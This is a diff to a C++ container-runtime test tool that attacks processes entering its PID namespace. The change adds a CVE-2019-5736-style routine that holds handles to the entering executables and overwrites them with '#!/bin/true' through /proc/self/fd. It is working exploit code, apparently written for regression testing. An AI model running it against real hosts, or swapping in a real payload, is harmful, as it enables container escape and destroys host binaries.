@@ -1,8 +1,9 @@
 // pry PAYLOAD: lays hold of every process that appears in its pid namespace, in all the ways there
 // are, until that process executes PAYLOAD (a path without links). Prints what it got hold of
-// before, a line each time; with SIGTERM at last how many processes there were.
+// before, a line each time; with SIGTERM at last how many processes there were. The executables it
+// keeps, and tries to write to them for as long as it runs; "wrote" if it can.
 //
-// A test tool: it is the container that attacks what enters it (CVE-2016-9962).
+// A test tool: it is the container that attacks what enters it (CVE-2016-9962, CVE-2019-5736).
 #include <algorithm>
 #include <cerrno>
 #include <csignal>
@@ -17,6 +18,7 @@
 #include <sys/syscall.h>
 #include <sys/wait.h>
 #include <unistd.h>
+#include <vector>
 
 namespace {
 
@@ -32,6 +34,34 @@ std::string link_of(const std::string& path) {
   const ssize_t length = readlink(path.c_str(), target, sizeof target);
   return length < 0 ? "" : std::string(target, static_cast<std::size_t>(length));
 }
+
+// The files that processes were running, which can't be written to before they have ended.
+class Executables {
+ public:
+  void keep(const std::string& path, const std::string& payload) {
+    const int file = open(path.c_str(), O_PATH | O_CLOEXEC);
+    if (file < 0 || files_.size() >= kMost || link_of(name_of(file)) == payload) {
+      close(file);
+    } else {
+      files_.push_back(file);
+    }
+  }
+
+  void overwrite() const {
+    for (const int file : files_) {
+      const int writable = open(name_of(file).c_str(), O_WRONLY | O_CLOEXEC);
+      if (writable >= 0 && write(writable, "#!/bin/true\n", 12) > 0) std::puts("wrote");
+      close(writable);
+    }
+  }
+
+ private:
+  static constexpr std::size_t kMost = 64;
+
+  static std::string name_of(int file) { return "/proc/self/fd/" + std::to_string(file); }
+
+  std::vector<int> files_;
+};
 
 enum class Stage { Before, Executed, Gone };
 
@@ -134,6 +164,7 @@ int main(int, char** arguments) {
   sigaction(SIGTERM, &action, nullptr);
   std::setvbuf(stdout, nullptr, _IOLBF, 0);
   const LatestPid latest;
+  Executables executables;
   pid_t next = getpid() + 1;
   long seen = 0;
   std::puts("ready");
@@ -144,10 +175,12 @@ int main(int, char** arguments) {
       next = std::max(next, latest.pid());
       continue;
     }
+    executables.keep(in_proc(next, "exe"), payload);
     Attack attack(next, pidfd, payload);
     while (attack.run() && ended == 0) {
     }
     close(pidfd);
+    executables.overwrite();
     ++next;
     ++seen;
   }
